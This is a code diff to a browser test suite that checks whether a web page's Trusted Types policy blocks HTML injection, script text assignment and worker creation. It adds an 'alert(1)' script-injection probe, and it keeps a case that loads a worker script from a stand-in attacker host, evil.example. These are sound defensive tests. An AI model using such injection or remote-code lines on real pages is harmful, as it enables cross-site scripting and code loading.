@@ -109,7 +109,7 @@ test.describe('a visitor’s text never leaves the page', () => {
     expect(result).toBe('blocked')
   })
 
-  test('the browser blocks HTML from strings, and other workers', async ({ page, expectLog }) => {
+  test('the browser blocks HTML and scripts from strings, and other workers', async ({ page, expectLog }) => {
     expectLog(/policy violation: require-trusted-types-for/)
     expectLog(/requires 'Trusted/)
     await page.goto('/tools/word-counter')
@@ -124,11 +124,12 @@ test.describe('a visitor’s text never leaves the page', () => {
       }
       return [
         outcomeOf(() => (document.body.innerHTML = '<p>')),
+        outcomeOf(() => (document.createElement('script').text = 'alert(1)')),
         outcomeOf(() => new Worker('/start.js')),
         outcomeOf(() => new Worker('https://evil.example/sw.js')),
       ]
     })
-    expect(results).toEqual(['TypeError', 'TypeError', 'TypeError'])
+    expect(results).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
   })
 
   test('a worker cannot connect to anything either', async ({ page, request }) => {
